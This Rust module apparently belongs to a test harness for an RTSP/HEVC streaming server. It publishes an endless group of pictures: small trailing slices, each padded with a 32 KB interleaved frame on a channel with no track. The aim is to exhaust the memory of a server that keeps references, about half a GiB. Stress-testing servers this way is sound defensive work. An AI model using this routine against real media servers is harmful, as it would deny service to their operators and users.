//! One publisher whose group of pictures has no end, of small packets among large frames of no track: a server that keeps
//! references keeps all of it.

use anyhow::Result;
use hevcast_wire::rtp::interleave;

use super::peer::{IDR_SLICE, Peer, TRAIL_SLICE};
use super::trial::Target;

/// Packets that are sent at most: half a GiB with what is between them.
const PACKETS: u32 = 16_000;
/// Bytes of a frame of no track.
const STRAY_BYTES: usize = 32_000;

pub(super) fn run(target: &Target) -> Result<Vec<Peer>> {
    let mut peer = Peer::connect(target.rtsp)?;
    peer.publish("attack/small", "")?;
    let first = peer.slice(IDR_SLICE, 100, 0);
    peer.send(&first)?;
    let stray = interleave::frame(200, &[0; STRAY_BYTES]);
    for number in 1..PACKETS {
        if !target.goes_on() {
            break;
        }
        let packet = peer.slice(TRAIL_SLICE, 5, number * 3000);
        peer.send(&[&packet[..], &stray].concat())?;
    }
    target.wait();
    Ok(vec![peer])
}
